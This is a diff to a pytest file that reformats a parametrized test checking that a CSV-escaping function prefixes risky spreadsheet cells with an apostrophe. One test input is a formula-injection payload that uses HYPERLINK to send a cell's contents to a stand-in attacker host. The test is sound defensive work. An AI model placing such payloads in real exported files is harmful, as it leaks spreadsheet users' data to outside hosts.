@@ -13,8 +13,10 @@ from servicehub.csvsafe import FORMULA_TRIGGERS, csv_cell, csv_unescape, csv_wri
 ROOT = Path(__file__).resolve().parents[2]
 
 
-@pytest.mark.parametrize("text", ['=HYPERLINK("https://evil.example/?"&A2,"open")', "+86 21 5555 0000", "-1+2",
-                                  "@SUM(A1:A9)", "\t=1", "\r=1"])
+@pytest.mark.parametrize(
+    "text",
+    ['=HYPERLINK("https://evil.example/?"&A2,"open")', "+86 21 5555 0000", "-1+2", "@SUM(A1:A9)", "\t=1", "\r=1"],
+)
 def test_risky_text_gets_a_leading_apostrophe_and_reads_back(text):
     assert csv_cell(text) == "'" + text
     assert csv_unescape(csv_cell(text)) == text
